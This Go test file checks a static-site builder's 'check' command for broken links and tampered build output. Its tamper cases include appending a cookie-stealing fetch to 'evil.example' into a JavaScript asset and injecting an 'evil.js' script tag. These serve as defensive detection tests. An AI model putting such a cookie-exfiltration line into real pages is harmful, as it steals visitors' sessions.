package main

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"guidebook/internal/search"
)

func TestCheckCommand(t *testing.T) {
	site := copySite(t)

	// In memory: the shipped guide has no broken link.
	code, out, errOut := runCLI("check", "--src", site)
	if code != 0 {
		t.Fatalf("check: exit %d\n%s", code, errOut)
	}
	if !regexp.MustCompile(`^guidebook check: no broken links: checked \d{3,} links in 9 pages of the site built from .*; 7 external links listed, not fetched\n$`).MatchString(out) {
		t.Errorf("summary = %q", out)
	}

	// -v lists the external links, and only lists them.
	code, out, _ = runCLI("check", "--src", site, "-v")
	if code != 0 || strings.Count(out, "\nexternal https://") != 6 || !strings.HasPrefix(out, "external https://doi.org/") {
		t.Errorf("-v: exit %d\n%s", code, out)
	}

	// On disk, after damage: each broken link named with its page, exit 1.
	if code, _, e := runCLI("build", "--src", site); code != 0 {
		t.Fatal(e)
	}
	public := filepath.Join(site, "public")
	if code, _, e := runCLI("check", "--dir", public); code != 0 {
		t.Fatalf("fresh build: exit %d\n%s", code, e)
	}
	os.RemoveAll(filepath.Join(public, "glossary"))
	page := filepath.Join(public, "academic", "index.html")
	data, _ := os.ReadFile(page)
	data = []byte(strings.Replace(string(data), `</main>`, `<a href="../fundamentals/#no-such-id">x</a><img src="../assets/gone.png"></main>`, 1))
	os.WriteFile(page, data, 0o644)
	code, _, errOut = runCLI("check", "--dir", public)
	if code != 1 {
		t.Fatalf("damaged tree: exit %d\n%s", code, errOut)
	}
	for _, want := range []string{
		filepath.ToSlash(public) + `/academic/index.html: broken link "../assets/gone.png": no file assets/gone.png`,
		filepath.ToSlash(public) + `/academic/index.html: broken link "../fundamentals/#no-such-id": fundamentals/index.html has no id "no-such-id"`,
		filepath.ToSlash(public) + `/academic/index.html: broken link "../glossary/#`,
		"problems (checked ",
	} {
		if !strings.Contains(errOut, want) {
			t.Errorf("report lacks %q:\n%s", want, errOut)
		}
	}

	// A site that does not build is reported as such.
	os.WriteFile(filepath.Join(site, "content", "bad.md"), []byte("---\ntitle: Bad\n---\n\n[[nowhere]]\n"), 0o644)
	code, _, errOut = runCLI("check", "--src", site)
	if code != 1 || !strings.Contains(errOut, `bad.md:5:3: broken link: no chapter "nowhere"`) || !strings.Contains(errOut, "does not build") {
		t.Errorf("unbuildable site: exit %d\n%s", code, errOut)
	}
	if code, _, e := runCLI("check", "--dir", filepath.Join(site, "nope")); code != 2 || !strings.Contains(e, "not a built site directory") {
		t.Errorf("missing --dir: exit %d %s", code, e)
	}
}

// TestCheckTamperedOutput: `check --dir` verifies what a published build
// vouches for. Each tampering, on a fresh copy of one build, is reported
// at its path and fails the check.
func TestCheckTamperedOutput(t *testing.T) {
	site := copySite(t)
	if code, _, e := runCLI("build", "--src", site); code != 0 {
		t.Fatal(e)
	}
	public := filepath.Join(site, "public")
	if code, _, e := runCLI("check", "--dir", public); code != 0 {
		t.Fatalf("fresh build: exit %d\n%s", code, e)
	}
	one := func(t *testing.T, dir, pattern string) string {
		t.Helper()
		m, _ := filepath.Glob(filepath.Join(dir, filepath.FromSlash(pattern)))
		if len(m) != 1 {
			t.Fatalf("%s: %d matches", pattern, len(m))
		}
		rel, _ := filepath.Rel(dir, m[0])
		return filepath.ToSlash(rel)
	}
	edit := func(t *testing.T, file string, f func(string) string) {
		t.Helper()
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		if out := f(string(data)); out != string(data) {
			os.WriteFile(file, []byte(out), 0o644)
		} else {
			t.Fatalf("%s: edit changed nothing", file)
		}
	}
	integrity := regexp.MustCompile(` integrity="[^"]*"`)
	tests := []struct {
		name   string
		tamper func(t *testing.T, dir string) // returns nothing; want names the paths
		want   func(dir string) []string
	}{
		{"changed integrity", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, "index.html"), func(s string) string {
				return strings.Replace(s, `integrity="sha384-`, `integrity="sha384-AAAA`, 1)
			})
		}, func(dir string) []string {
			return []string{"index.html: \"" + one(t, dir, "assets/css/guidebook.*.css") + "\": integrity hash does not match the bytes of"}
		}},
		{"tampered asset", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, one(t, dir, "assets/js/guidebook.*.js")), func(s string) string { return s + "\nfetch('//evil.example/'+document.cookie)\n" })
		}, func(dir string) []string {
			js := one(t, dir, "assets/js/guidebook.*.js")
			return []string{js + ": bytes do not match the fingerprint in its name", js + ".gz: does not decompress to the bytes of " + js}
		}},
		{"stripped integrity", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, "academic", "index.html"), func(s string) string {
				loc := integrity.FindStringIndex(s)
				return s[:loc[0]] + s[loc[1]:]
			})
		}, func(dir string) []string {
			return []string{"academic/index.html: \"../" + one(t, dir, "assets/css/guidebook.*.css") + "\" has no integrity hash"}
		}},
		{"stripped part integrity", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, one(t, dir, search.ManifestAsset)), func(s string) string {
				return regexp.MustCompile(`,"integrity":"[^"]*"`).ReplaceAllLiteralString(s, "")
			})
		}, func(dir string) []string {
			m := one(t, dir, search.ManifestAsset)
			return []string{m + `: "` + one(t, dir, "assets/search/0.*.js") + `" has no integrity hash`, m + `: "` + one(t, dir, "assets/search/1.*.js") + `" has no integrity hash`}
		}},
		{"added script", func(t *testing.T, dir string) {
			os.WriteFile(filepath.Join(dir, "assets", "evil.js"), []byte("alert(1)"), 0o644)
			edit(t, filepath.Join(dir, "academic", "index.html"), func(s string) string {
				return strings.Replace(s, "</head>", `<script src="../assets/evil.js"></script></head>`, 1)
			})
		}, func(dir string) []string {
			return []string{`academic/index.html: "../assets/evil.js" has no integrity hash`}
		}},
		{"deleted search part", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, one(t, dir, "assets/search/0.*.js")))
		}, func(dir string) []string {
			part := one(t, dir, "assets/search/0.*.js.gz")
			part = strings.TrimSuffix(part, ".gz")
			return []string{one(t, dir, search.ManifestAsset) + `: names the search index part "` + part + `", which is missing`}
		}},
		{"manifest names a missing part", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, one(t, dir, search.ManifestAsset)), func(s string) string {
				return strings.Replace(s, `{"parts":[`, `{"parts":[{"src":"assets/search/7.0badf00d.js"},`, 1)
			})
		}, func(dir string) []string {
			return []string{one(t, dir, search.ManifestAsset) + `: names the search index part "assets/search/7.0badf00d.js", which is missing`}
		}},
		{"corrupt br", func(t *testing.T, dir string) {
			os.WriteFile(filepath.Join(dir, "fundamentals", "index.html.br"), []byte("not brotli at all"), 0o644)
		}, func(string) []string { return []string{"fundamentals/index.html.br: corrupt brotli data"} }},
		{"br of other bytes", func(t *testing.T, dir string) {
			other, _ := os.ReadFile(filepath.Join(dir, "glossary", "index.html.br"))
			os.WriteFile(filepath.Join(dir, "fundamentals", "index.html.br"), other, 0o644)
		}, func(string) []string {
			return []string{"fundamentals/index.html.br: does not decompress to the bytes of fundamentals/index.html"}
		}},
		{"corrupt gz", func(t *testing.T, dir string) {
			edit(t, filepath.Join(dir, "reflection", "index.html.gz"), func(s string) string { return s[:len(s)/2] })
		}, func(string) []string { return []string{"reflection/index.html.gz: corrupt gzip data"} }},
		{"deleted gz", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "academic", "index.html.gz"))
		}, func(string) []string {
			return []string{"academic/index.html.gz: missing: the build writes it beside academic/index.html"}
		}},
		{"deleted 404", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "404.html"))
		}, func(string) []string {
			return []string{"404.html: missing", "404.html.gz: compressed copy of 404.html, which is missing"}
		}},
		{"symlinks", func(t *testing.T, dir string) {
			decoy := filepath.Join(t.TempDir(), "secret.txt")
			os.WriteFile(decoy, []byte("DECOY"), 0o644)
			if err := os.Symlink(decoy, filepath.Join(dir, "secret.txt")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("..", filepath.Join(dir, "assets", "up")); err != nil {
				t.Fatal(err)
			}
		}, func(string) []string {
			return []string{"secret.txt: symbolic link", "assets/up: symbolic link"}
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "public")
			if err := os.CopyFS(dir, os.DirFS(public)); err != nil {
				t.Fatal(err)
			}
			tc.tamper(t, dir)
			code, _, errOut := runCLI("check", "--dir", dir)
			if code != 1 {
				t.Errorf("exit %d, want 1\n%s", code, errOut)
			}
			for _, w := range tc.want(dir) {
				if !strings.Contains(errOut, filepath.ToSlash(dir)+"/"+w) {
					t.Errorf("report lacks %q:\n%s", w, errOut)
				}
			}
			if strings.Contains(errOut, "DECOY") {
				t.Errorf("a symlink was followed:\n%s", errOut)
			}
		})
	}
}
